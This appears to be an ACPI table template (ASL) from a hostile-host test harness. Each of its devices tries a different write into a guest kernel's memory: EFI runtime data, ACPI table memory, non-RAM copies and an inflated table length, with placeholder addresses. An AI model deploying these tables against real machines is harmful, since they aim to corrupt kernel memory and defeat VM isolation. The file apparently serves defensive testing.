// A table of a host that reaches for the kernel's memory in several ways, each in a device of its own, so that one that is refused does
// not end the others. acpi.rs puts in the addresses.
DefinitionBlock ("", "SSDT", 2, "HOST", "ATTACK", 1)
{
  Scope (\_SB)
  {
    // the machine's name
    Device (NODE)
    {
      Name (_HID, "FLTX0001")
      OperationRegion (RGN, SystemMemory, @NAME@, 8)
      Field (RGN, ByteAcc, NoLock, Preserve) { N0, 8, N1, 8, N2, 8, N3, 8, N4, 8 }
      Method (_INI) { N0 = 0x50 N1 = 0x57 N2 = 0x4e N3 = 0x44 N4 = 0 }
    }
    // from memory that is no RAM into RAM
    Device (STRD)
    {
      Name (_HID, "FLTX0002")
      OperationRegion (RGN, SystemMemory, 0x000FFFF0, 0x20)
      Field (RGN, DWordAcc, NoLock, Preserve) { FRST, 32, Offset (0x10), RAM, 32 }
      Method (_INI) { Local0 = FRST RAM = Local0 }
    }
    // data of EFI's runtime services, which the kernel calls; what is written is what was there
    Device (RTSV)
    {
      Name (_HID, "FLTX0003")
      OperationRegion (RGN, SystemMemory, @RUNTIME@, 0x10)
      Field (RGN, DWordAcc, NoLock, Preserve) { FRST, 32 }
      Method (_INI) { Local0 = FRST FRST = Local0 }
    }
    // memory of ACPI tables, where the kernel has its list of unaccepted memory
    Device (TBLS)
    {
      Name (_HID, "FLTX0004")
      OperationRegion (RGN, SystemMemory, @TABLES@, 0x10)
      Field (RGN, DWordAcc, NoLock, Preserve) { FRST, 32 }
      Method (_INI) { Local0 = FRST FRST = Local0 }
    }
    // the length of this table, by which the kernel would bound the next region of this kind
    Device (TLEN)
    {
      Name (_HID, "FLTX0005")
      DataTableRegion (RGN, "SSDT", "HOST", "ATTACK")
      Field (RGN, DWordAcc, NoLock, Preserve) { SIGN, 32, LENG, 32 }
      Method (_INI) { LENG = 0x7fffffff }
    }
    // a second table
    Device (SCND)
    {
      Name (_HID, "FLTX0006")
      Name (TABL, Buffer () { @INNER@ })
      Method (_INI, 0, Serialized)
      {
        CreateField (TABL, 0, @INNERBITS@, FILD)
        Load (FILD, Local0)
      }
    }
  }
}
